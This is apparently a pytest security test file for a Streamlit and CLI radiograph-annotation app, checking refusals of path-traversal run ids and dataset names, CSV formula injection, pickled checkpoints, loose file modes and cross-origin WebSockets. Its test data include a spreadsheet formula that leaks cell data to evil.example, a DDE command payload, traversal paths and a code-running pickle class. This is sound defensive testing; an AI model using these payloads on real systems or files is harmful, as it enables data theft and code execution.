"""Security probes (issue 20, parts 2, 3 and 6), each one that got through before: run ids and dataset names that are
paths, a cross-origin WebSocket, formula cells in exported CSVs, a world-readable workspace, tracebacks on a corrupt
database and on a pickled checkpoint. Real components throughout: run folders in a temporary workspace, the CLI in a
subprocess, a real `streamlit run` for the WebSocket."""
from __future__ import annotations

import csv
import io
import json
import os
import signal
import socket
import stat
import subprocess
import sys
import time
import urllib.request
from pathlib import Path

import numpy as np
import pytest
from PIL import Image

from core import settings
from core.cli import main as cli_main
from core.runs import layout

ROOT = Path(__file__).resolve().parents[1]


def cli(home: Path, *args: str, umask: int | None = None) -> subprocess.CompletedProcess:
    """``python -m core ARGS`` in a subprocess on ``home``, from the repository root."""
    env = {**os.environ, "CERVICURVE_HOME": str(home), "PYTHONPATH": str(ROOT), "OMP_WAIT_POLICY": "PASSIVE",
           "CERVICURVE_THREADS": "1"}
    env.pop("CERVICURVE_DB", None)
    return subprocess.run([sys.executable, "-m", "core", *args], cwd=ROOT, env=env, capture_output=True, text=True,
                          timeout=300, preexec_fn=None if umask is None else (lambda: os.umask(umask)))


def one_line_refusal(done: subprocess.CompletedProcess) -> str:
    """The refusal's one line; fails on a traceback, on success, or on more than one line."""
    output = done.stdout + done.stderr
    assert done.returncode != 0, output
    assert "Traceback" not in output, output
    lines = [line for line in output.splitlines() if line.strip()]
    assert len(lines) == 1, output
    return lines[0]


def finished_run(task: str = "classify") -> Path:
    """A real run folder under runs/, as a finished run leaves it (config, status done, best.pt)."""
    run_dir = layout.new_run_dir("cnn", task)
    (run_dir / layout.CONFIG_FILE).write_text(f"task: {task}\nmodel: cnn\n", encoding="utf-8")
    layout.write_status(run_dir, {"state": "done", "task": task, "model": "cnn", "epoch": 1, "epochs": 1})
    (run_dir / "best.pt").write_bytes(b"weights")
    return run_dir


def run_like_folder(path: Path) -> Path:
    """A folder outside runs/ that holds a run's files (what a path-accepting resolver takes for a run)."""
    path.mkdir(parents=True)
    (path / layout.CONFIG_FILE).write_text("task: classify\nmodel: cnn\n", encoding="utf-8")
    (path / layout.STATUS_FILE).write_text(json.dumps({"state": "failed", "task": "classify"}), encoding="utf-8")
    (path / "best.pt").write_bytes(b"weights")
    (path / "keep.txt").write_text("mine")
    return path


def tree(path: Path) -> set[str]:
    return {str(p.relative_to(path)) for p in path.rglob("*")}


def png_bytes(seed: int, size: int = 64) -> bytes:
    pixels = (np.random.default_rng(seed).random((size, size)) * 255).astype(np.uint8)
    buffer = io.BytesIO()
    Image.fromarray(pixels).save(buffer, format="PNG")
    return buffer.getvalue()


def write_manifest(folder: Path, patients: list[str]) -> Path:
    """A CSV-importer manifest of one 64 px film per patient, with class and box."""
    (folder / "images").mkdir(parents=True)
    rows = [["path", "label", "patient_id", "x1", "y1", "x2", "y2"]]
    for number, patient in enumerate(patients):
        (folder / "images" / f"f{number}.png").write_bytes(png_bytes(number))
        rows.append([f"images/f{number}.png", ("normal", "straightened", "reversed")[number % 3], patient,
                     "4", "4", "40", "50"])
    with (folder / "manifest.csv").open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(rows)
    return folder / "manifest.csv"


# ---------------------------------------------------------------------------------------------- run ids


def test_run_verbs_refuse_anything_but_a_run_folder_directly_under_runs(workspace, tmp_path, capsys):
    """Before: `runs delete ''` removed every run, `..` the workspace, a path any folder; cancel, resume, promote
    and status resolved the same way."""
    run = finished_run()
    other = finished_run()
    victim = run_like_folder(tmp_path / "elsewhere" / "20250101-000000-classify-cnn-abcd")
    (settings.runs_dir() / "20250101-000000-classify-cnn-beef").symlink_to(victim)  # a link in runs/ to outside
    before_victim, before_runs = tree(victim), tree(settings.runs_dir())
    bad = ["", ".", "..", "../..", str(victim), str(victim.parent), str(settings.runs_dir()), str(workspace),
           f"{run}/..", f"{run}/../{other.name}/../..", f"{run.name}/../{other.name}", "/",
           "20250101-000000-classify-cnn-beef", str(settings.runs_dir() / "20250101-000000-classify-cnn-beef")]
    for arg in bad:
        for argv in (["runs", "delete", arg], ["runs", "cancel", arg], ["runs", "resume", arg],
                     ["runs", "promote", arg], ["promote", arg], ["runs", "status", arg]):
            assert cli_main(argv) == 2, argv
            err = capsys.readouterr().err
            assert err.startswith("error: ") and err.count("\n") == 1, (argv, err)
    assert tree(victim) == before_victim and tree(settings.runs_dir()) == before_runs
    assert not (settings.promoted_dir() / "classify").exists()
    # a run id, or the path of a run under runs/, still works
    assert cli_main(["runs", "status", run.name]) == 0
    assert cli_main(["runs", "delete", str(run)]) == 0 and not run.exists()
    assert cli_main(["runs", "delete", other.name]) == 0 and not other.exists()
    assert tree(victim) == before_victim


def test_runs_delete_from_the_shell_leaves_the_workspace_and_other_folders(workspace, tmp_path):
    run = finished_run()
    victim = run_like_folder(tmp_path / "victim")
    (workspace / "cervicurve.db").write_bytes(b"")  # the workspace's own files must survive too
    before = tree(workspace)
    for arg in ("..", "", str(victim), "../../victim"):
        line = one_line_refusal(cli(workspace, "runs", "delete", arg))
        assert line.startswith("error: no run "), line
        assert tree(workspace) == before and (victim / "keep.txt").exists() and run.is_dir()
    one_line_refusal(cli(workspace, "runs", "cancel", ".."))
    one_line_refusal(cli(workspace, "runs", "resume", str(victim)))
    assert tree(workspace) == before


def test_pages_and_core_share_one_run_check(workspace):
    run = finished_run()
    assert layout.run_path(run.name) == run == layout.run_path(str(run)) == layout.resolve_run(run.name)
    for value in ("", "..", "x", "20250101-000000-classify-cnn-abc", "a/b", f"{run.name}/.."):
        with pytest.raises(layout.JobError):
            layout.run_path(value)


# ---------------------------------------------------------------------------------------------- dataset names


def test_a_dataset_name_that_is_a_path_is_refused_at_import(workspace, tmp_path):
    """Before: `import csv --dataset ../../x` stored the dataset as named (the Data page's export then wrote
    outside the workspace)."""
    manifest = write_manifest(tmp_path / "src", ["P1", "P2", "P3"])
    for name in ("../../x", ".hidden", "a/b", "x" * 101, " lead", "tab\there", "..", "a\\b"):
        line = one_line_refusal(cli(workspace, "import", "csv", str(manifest), "--dataset", name))
        assert "dataset name" in line, line
    from core.data.store import AnnotationStore

    with AnnotationStore() as store:
        assert store.datasets() == []
    assert not any(p.is_file() for p in (workspace / "images").rglob("*"))  # the copied files were taken back
    for name in ("films-2024.v1", "ward 7"):
        done = cli(workspace, "import", "csv", str(manifest), "--dataset", name)
        assert done.returncode == 0, done.stdout + done.stderr


def test_the_data_page_refuses_a_path_as_dataset_name_before_importing(workspace):
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60).run()
    at.switch_page("pages/data.py").run()
    at.selectbox(key="import_layout").set_value("phantom").run()
    at.number_input(key="phantom_patients").set_value(3)
    at.number_input(key="phantom_size").set_value(128)
    at.text_input(key="dataset_name_phantom").input("../../escape").run()
    at.button(key="import_button").click().run()
    assert not at.exception
    assert any("dataset name '../../escape' refused" in e.value for e in at.error), [e.value for e in at.error]
    from core.data.store import AnnotationStore

    with AnnotationStore() as store:
        assert store.datasets() == []


def legacy_dataset(name: str, manifest: Path) -> None:
    """A dataset imported before names were checked: imported under a plain name, then renamed in the database."""
    from sqlalchemy import update

    from core.data import importers
    from core.data.store import AnnotationStore, images_table

    with AnnotationStore() as store:
        importers.import_csv(manifest, dataset="plain", store=store)
        with store._write() as conn:
            conn.execute(update(images_table).values(dataset=name))


def test_the_data_page_export_of_a_path_like_dataset_writes_nothing_outside_the_workspace(workspace, tmp_path):
    """Before: a dataset named ../../escape was exported to <workspace>/exports/../../escape-csv-<time>.zip."""
    from streamlit.testing.v1 import AppTest

    legacy_dataset("../../escape", write_manifest(tmp_path / "src", ["P1", "P2", "P3"]))
    outside_before = tree(tmp_path) - {p for p in tree(tmp_path) if p.startswith("workspace")}
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60).run()
    at.switch_page("pages/data.py").run()
    at.selectbox(key="export_dataset").set_value("../../escape")
    at.selectbox(key="export_kind").set_value("csv")
    at.button(key="export_button").click().run()
    assert not at.exception
    assert any("refused" in e.value for e in at.error), [e.value for e in at.error]
    outside_after = tree(tmp_path) - {p for p in tree(tmp_path) if p.startswith("workspace")}
    assert outside_after == outside_before
    assert not list((workspace / "exports").glob("*")) if (workspace / "exports").exists() else True
    # and from the shell
    line = one_line_refusal(cli(workspace, "export", "csv", "--dataset", "../../escape", "--out",
                                str(tmp_path / "out")))
    assert "refused" in line and not (tmp_path / "out").exists()


def test_export_is_an_admin_action_in_team_mode(workspace, tmp_path):
    """Before: any signed-in role could export every patient's films (no role check)."""
    from core.data import exports, importers
    from core.data.accounts import Accounts, PermissionDenied

    importers.import_csv(write_manifest(tmp_path / "src", ["P1", "P2", "P3"]), dataset="films")
    with Accounts() as accounts:
        accounts.add_user("ada", "correct horse", "admin")
        accounts.add_user("ann", "annotator pw", "annotator")
        annotator, admin = accounts.sign_in("ann", "annotator pw"), accounts.sign_in("ada", "correct horse")
    for actor in (annotator, None, "forged-token"):
        with pytest.raises(PermissionDenied):
            exports.export_archive("csv", "films", actor=actor)
    assert not list(settings.exports_dir().glob("*"))
    archive, report = exports.export_archive("csv", "films", actor=admin)
    assert archive.parent == settings.exports_dir() and archive.name.startswith("films-csv-") and report.written == 3
    assert [p for p in settings.exports_dir().iterdir()] == [archive]  # the folder it was built in is gone


# ---------------------------------------------------------------------------------------------- CSV cells


def test_exported_csv_cells_never_start_a_formula(workspace, tmp_path):
    """Before: a patient id `=HYPERLINK(...)` went into manifest.csv as it came, a formula in a spreadsheet."""
    from core.data.exports import spreadsheet_safe

    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3+cmd|x",
               "-3.2"]
    importers_manifest = write_manifest(tmp_path / "src", hostile)
    assert cli_main(["import", "csv", str(importers_manifest), "--dataset", "films"]) == 0
    assert cli_main(["export", "csv", "--dataset", "films", "--out", str(tmp_path / "csv")]) == 0
    assert cli_main(["export", "labelme", "--dataset", "films", "--out", str(tmp_path / "labelme")]) == 0
    for table, column in ((tmp_path / "csv" / "manifest.csv", "patient_id"),
                          (tmp_path / "labelme" / "datasets.csv", "patient_id")):
        with table.open(newline="", encoding="utf-8") as handle:
            rows = list(csv.DictReader(handle))
        patients = sorted(row[column] for row in rows)
        assert patients == sorted(["'" + p for p in hostile[:4]] + ["-3.2"]), patients
        for row in rows:
            for value in row.values():
                assert not value.startswith(("=", "+", "@")) and not (value.startswith("-") and value != "-3.2"), row
    # numbers are data, not formulas: kept as they are; so is text that is just a number
    assert spreadsheet_safe(-3.2) == -3.2 and spreadsheet_safe("-3.2") == "-3.2" and spreadsheet_safe("1e-3") == "1e-3"
    assert [spreadsheet_safe(v) for v in ("=1+1", "\t=1", "\r=1", "-", "+", "a=b")] == \
        ["'=1+1", "'\t=1", "'\r=1", "'-", "'+", "a=b"]


# ---------------------------------------------------------------------------------------------- file modes


def test_the_workspace_and_what_core_writes_in_it_are_private(tmp_path):
    """Before: cervicurve.db (password hashes) and images/ were created 0644 / 0755 under the usual umask 022."""
    home = tmp_path / "new-workspace"
    manifest = write_manifest(tmp_path / "src", ["P1", "P2", "P3"])
    assert cli(home, "import", "csv", str(manifest), "--dataset", "films", umask=0o022).returncode == 0
    assert cli(home, "users", "list", umask=0o022).returncode == 0
    assert cli(home, "runs", "list", umask=0o022).returncode == 0
    mode = lambda path: stat.S_IMODE(path.stat().st_mode)  # noqa: E731
    assert mode(home) == 0o700
    assert mode(home / "cervicurve.db") == 0o600
    inside = [p for p in home.rglob("*")]
    assert any(p.parent.parent.name == "images" for p in inside if p.is_file())
    assert {oct(mode(p)) for p in inside if p.is_file()} == {oct(0o600)}, \
        [(str(p), oct(mode(p))) for p in inside if p.is_file() and mode(p) != 0o600]
    assert {oct(mode(p)) for p in inside if p.is_dir()} == {oct(0o700)}


# ---------------------------------------------------------------------------------------------- corrupt database


def test_every_cli_verb_on_a_corrupt_database_prints_one_line(workspace, tmp_path):
    """Before: `users list`, `labels progress`, `split` and `db backup` printed tracebacks."""
    manifest = write_manifest(tmp_path / "src", ["P1", "P2", "P3"])
    (workspace / "cervicurve.db").write_bytes(np.random.default_rng(0).bytes(16384))
    config = tmp_path / "run.yaml"
    config.write_text("task: classify\nmodel: cnn\ndataset: films\nepochs: 1\ndevice: cpu\n")
    verbs = [("users", "list"), ("users", "audit"), ("labels", "progress", "--dataset", "films"),
             ("split", "--dataset", "films"), ("db", "backup"), ("db", "upgrade"),
             ("import", "csv", str(manifest), "--dataset", "films"),
             ("export", "csv", "--dataset", "films", "--out", str(tmp_path / "out")),
             ("quiz", "list"), ("runs", "start", "--config", str(config))]
    for verb in verbs:
        line = one_line_refusal(cli(workspace, *verb))
        assert line.startswith("error: ") and "not a database" in line, (verb, line)


# ---------------------------------------------------------------------------------------------- checkpoints


class Executes:
    """Pickled as a call of Path.touch: loading the checkpoint with plain pickle would create the marker file."""

    def __init__(self, marker: Path):
        self.marker = marker

    def __reduce__(self):
        return (Path.touch, (self.marker,))


def test_a_pickled_checkpoint_is_refused_in_one_line(workspace, tmp_path):
    import torch

    marker = tmp_path / "code-ran"
    evil = tmp_path / "evil.pt"
    torch.save({"state_dict": Executes(marker), "meta": {}}, evil)
    film = tmp_path / "film.png"
    film.write_bytes(png_bytes(1, 128))
    try:
        line = one_line_refusal(cli(workspace, "predict", str(film), "--model", str(evil)))
        assert "refused" in line or "not a CerviCurve checkpoint" in line
        for config in ("classify", "landmarks"):  # as a starting point for training
            line = one_line_refusal(cli(workspace, "train", "--config", f"configs/{config}.yaml",
                                        f"init_from={evil}", "device=cpu"))
            assert "refused" in line and "pickled code" in line, line
    finally:
        assert not marker.exists()


# ---------------------------------------------------------------------------------------------- the WebSocket


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


@pytest.fixture()
def server(tmp_path):
    """`streamlit run app.py` with the shipped .streamlit/config.toml (only the port set), answering HTTP."""
    port = free_port()
    env = dict(os.environ, CERVICURVE_HOME=str(tmp_path / "workspace"), CERVICURVE_PRELOAD="0")
    env.pop("CERVICURVE_DB", None)
    log = open(tmp_path / "server.log", "wb")
    process = subprocess.Popen([sys.executable, "-m", "streamlit", "run", "app.py", "--server.port", str(port)],
                               cwd=ROOT, env=env, stdout=log, stderr=subprocess.STDOUT, start_new_session=True)
    deadline = time.monotonic() + 120
    try:
        while True:
            try:
                with urllib.request.urlopen(f"http://127.0.0.1:{port}/_stcore/health", timeout=5) as answer:
                    if answer.status == 200:
                        break
            except OSError:
                assert process.poll() is None and time.monotonic() < deadline, \
                    (tmp_path / "server.log").read_text(errors="replace")[-2000:]
                time.sleep(0.1)
        yield port
    finally:
        os.killpg(process.pid, signal.SIGTERM)
        try:
            process.wait(timeout=30)
        except subprocess.TimeoutExpired:
            os.killpg(process.pid, signal.SIGKILL)
            process.wait()
        log.close()


def websocket_status(port: int, origin: str, host: str | None = None) -> int:
    """The HTTP status of a WebSocket handshake on /_stcore/stream (101 when it is accepted)."""
    from websockets.exceptions import InvalidStatus
    from websockets.sync.client import connect

    sock = socket.create_connection(("127.0.0.1", port), timeout=30)
    try:
        with connect(f"ws://{host or f'127.0.0.1:{port}'}/_stcore/stream", sock=sock, origin=origin,
                     open_timeout=30) as connection:
            return connection.response.status_code
    except InvalidStatus as refused:
        return refused.response.status_code


def test_the_app_accepts_only_same_origin_websockets(server):
    """Before: enableCORS = false, and a page on any site could open the app's WebSocket and drive it."""
    assert websocket_status(server, f"http://127.0.0.1:{server}") == 101
    assert websocket_status(server, f"http://localhost:{server}", host=f"localhost:{server}") == 101
    assert websocket_status(server, "https://evil.example") == 403
    # DNS rebinding: a foreign name resolving to 127.0.0.1 is same-origin to the browser; the Host check refuses it
    assert websocket_status(server, f"http://rebind.example:{server}", host=f"rebind.example:{server}") == 403
